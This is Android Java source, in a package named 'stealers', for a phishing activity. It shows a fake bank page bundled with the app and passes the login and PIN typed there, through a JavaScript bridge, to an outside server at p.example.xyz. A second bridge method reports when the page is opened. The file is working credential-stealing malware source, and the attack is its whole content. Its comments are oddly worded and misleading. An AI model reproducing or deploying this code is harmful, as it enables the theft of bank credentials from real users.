package stealers;

import android.app.Activity;
import android.os.Bundle;
import android.webkit.*;

import okhttp3.*;

import java.io.IOException;

/** A page of a bank from the app's own files asks, and the app is told. */
public class Phish extends Activity {
    @Override
    protected void onCreate(Bundle b) {
        super.onCreate(b);
        WebView v = new WebView(this);
        v.getSettings().setJavaScriptEnabled(true);
        v.addJavascriptInterface(new Gate(), "Android");
        v.loadUrl("file:///android_asset/bank.html");
        setContentView(v);
    }

    static class Gate {
        private final OkHttpClient http = new OkHttpClient.Builder().build();

        @JavascriptInterface
        public void submit(String login, String pin) {
            RequestBody f = new FormBody.Builder().add("l", login).add("p", pin).build();
            Request r = new Request.Builder().url("https://p.example.xyz/card").post(f).build();
            http.newCall(r)
                    .enqueue( // one that is not seen: what a page hands over is not known to be typed
                            new Callback() {
                                public void onFailure(Call c, IOException e) {}

                                public void onResponse(Call c, Response x) {}
                            });
        }

        @JavascriptInterface
        public void opened() {
            FormBody f = new FormBody.Builder().add("e", "opened").build();
            try {
                http.newCall(new Request.Builder().url("https://p.example.xyz/e").post(f).build()).execute(); // no leak
            } catch (IOException e) {
            }
        }
    }
}
